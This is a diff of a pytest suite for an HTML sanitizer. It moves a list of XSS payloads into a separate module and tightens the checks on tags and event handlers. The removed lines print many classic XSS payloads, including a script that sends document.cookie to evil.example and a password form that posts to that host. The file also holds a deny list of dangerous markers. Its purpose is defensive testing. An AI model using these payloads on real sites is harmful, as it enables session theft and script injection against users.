@@ -1,11 +1,14 @@
 """The rich-text allow-list: what clean_html removes, what it keeps, and its helpers."""
 
+import re
+
 import pytest
 
 from articles.models import Article
 from articles.sanitize import clean_html, html_to_text, images_missing_alt_text
 
 from .factories import ArticleFactory
+from .xss_payloads import PAYLOAD_IDS, PAYLOADS
 
 DANGEROUS_MARKERS = (
     "<script",
@@ -37,6 +40,11 @@ DANGEROUS_MARKERS = (
     "<audio",
     "<details",
     "<template",
+    "<select",
+    "<marquee",
+    "<isindex",
+    "<noscript",
+    "<body",
     "formaction",
     "srcdoc",
     "expression(",
@@ -44,92 +52,31 @@ DANGEROUS_MARKERS = (
     "evil.example",
 )
 
-XSS_PAYLOADS = [
-    # <script> in various spellings
-    "<script>alert(1)</script>",
-    "<SCRIPT>alert(1)</SCRIPT>",
-    "<ScRiPt>alert(1)</sCrIpT>",
-    '<script src="https://evil.example/x.js"></script>',
-    "<script/xss>alert(1)</script>",
-    "<<script>alert(1)//<</script>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<p>safe</p><script>document.location='https://evil.example/?'+document.cookie</script>",
-    "<!--<script>alert(1)</script>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    # event handlers
-    '<img src="/media/x.png" alt="x" onerror="alert(1)">',
-    "<img src=x onerror=alert(1)>",
-    "<IMG SRC=/media/x.png ALT=x ONERROR=alert(1)>",
-    '<body onload="alert(1)"><p>hi</p></body>',
-    '<p onclick="alert(1)">click</p>',
-    '<a href="https://example.org" onmouseover="alert(1)">hover</a>',
-    '<h2 onfocus="alert(1)" tabindex="0">heading</h2>',
-    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
-    '<video><source onerror="alert(1)"></video>',
-    '<audio src=x onerror="alert(1)"></audio>',
-    # dangerous URL schemes, plain and disguised
-    '<a href="javascript:alert(1)">x</a>',
-    '<a href="JaVaScRiPt:alert(1)">x</a>',
-    '<a href=" javascript:alert(1)">x</a>',
-    '<a href="java\nscript:alert(1)">x</a>',
-    '<a href="java\tscript:alert(1)">x</a>',
-    '<a href="java&#x09;script:alert(1)">x</a>',
-    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
-    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">x</a>',
-    '<a href="javascript&colon;alert(1)">x</a>',
-    '<a href="vbscript:msgbox(1)">x</a>',
-    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
-    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="x">',
-    '<img src="javascript:alert(1)" alt="x">',
-    # svg and math tricks
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-    '<svg><animate onbegin="alert(1)" attributeName="x"/></svg>',
-    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
-    '<math href="javascript:alert(1)">x</math>',
-    # style, link, meta, base
-    "<style>body{background:url(javascript:alert(1))}</style>",
-    '<p style="width: expression(alert(1))">x</p>',
-    '<div style="background-image: url(javascript:alert(1))">x</div>',
-    '<link rel="stylesheet" href="https://evil.example/x.css">',
-    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
-    '<base href="https://evil.example/">',
-    # frames and plugins
-    '<iframe src="javascript:alert(1)"></iframe>',
-    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
-    '<frameset><frame src="https://evil.example/"></frameset>',
-    '<object data="https://evil.example/x.swf"></object>',
-    '<embed src="https://evil.example/x.swf">',
-    # forms
-    '<form action="https://evil.example/"><input name="password"></form>',
-    '<button formaction="javascript:alert(1)">Go</button>',
-    '<input type="image" src="x" onerror="alert(1)">',
-    '<textarea autofocus onfocus="alert(1)">x</textarea>',
-    # templates and noscript mutation tricks
-    "<template><script>alert(1)</script></template>",
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-    # images from another host (patient pages request nothing from elsewhere)
-    '<img src="https://evil.example/tracker.png" alt="tracker">',
-    '<img src="//evil.example/tracker.png" alt="tracker">',
-    '<img src="http://evil.example/media/tracker.png" alt="tracker">',
-]
+# The cleaner's output escapes every "<" of text, so each "<" left starts a real tag.
+TAG = re.compile(r"<[^>]*>")
+EVENT_HANDLER = re.compile(r"[\s/]on[a-z]+\s*=")
+
+XSS_PAYLOADS = pytest.mark.parametrize(
+    "payload", [payload for _id, payload in PAYLOADS], ids=PAYLOAD_IDS
+)
 
 
 def test_the_corpus_is_large_enough():
-    assert len(XSS_PAYLOADS) >= 40
-    assert len(set(XSS_PAYLOADS)) == len(XSS_PAYLOADS)
+    assert len(PAYLOADS) >= 40
+    assert len(set(PAYLOADS)) == len(PAYLOADS)
+    assert len(set(PAYLOAD_IDS)) == len(PAYLOAD_IDS)
 
 
-@pytest.mark.parametrize("payload", XSS_PAYLOADS)
+@XSS_PAYLOADS
 def test_classic_xss_payloads_are_neutralised(payload):
-    cleaned = clean_html(payload).lower()
+    # Only in tags: text such as '" onmouseover="x' is harmless once escaped.
+    tags = " ".join(TAG.findall(clean_html(payload))).lower()
     for marker in DANGEROUS_MARKERS:
-        assert marker not in cleaned, f"{marker!r} survived in {cleaned!r}"
+        assert marker not in tags, f"{marker!r} survived in {tags!r}"
+    assert not EVENT_HANDLER.search(tags), f"an event handler survived in {tags!r}"
 
 
-@pytest.mark.parametrize("payload", XSS_PAYLOADS)
+@XSS_PAYLOADS
 def test_cleaning_is_stable(payload):
     cleaned = clean_html(payload)
     assert clean_html(cleaned) == cleaned
@@ -144,7 +91,7 @@ ALLOWED_MARKUP = [
     '<ol start="3"><li>Third</li><li>Fourth</li></ol>',
     "<p><b>Bold</b> and <i>italic</i></p>",
     "<blockquote><p>It was easier than I thought.</p></blockquote>",
-    '<figure><img src="/media/editor/spine.png" alt="Side view of the spine" width="640" height="480"><figcaption>The spine</figcaption></figure>',
+    '<figure><img src="/media/editor/spine.png" alt="Side view of the spine" width="640" height="480" loading="lazy"><figcaption>The spine</figcaption></figure>',
     (
         "<table><caption>Recovery</caption>"
         '<thead><tr><th scope="col">Day</th><th scope="col">What you can do</th></tr></thead>'
@@ -198,7 +145,7 @@ def test_images_from_another_host_are_dropped_entirely():
 @pytest.mark.parametrize("value", ["50%", "-1", "1e3", "123456", "10px"])
 def test_image_sizes_must_be_small_whole_numbers(value):
     cleaned = clean_html(f'<img src="/media/a.png" alt="A spine" width="{value}">')
-    assert cleaned == '<img src="/media/a.png" alt="A spine">'
+    assert cleaned == '<img src="/media/a.png" alt="A spine" loading="lazy">'
 
 
 def test_comments_are_removed():
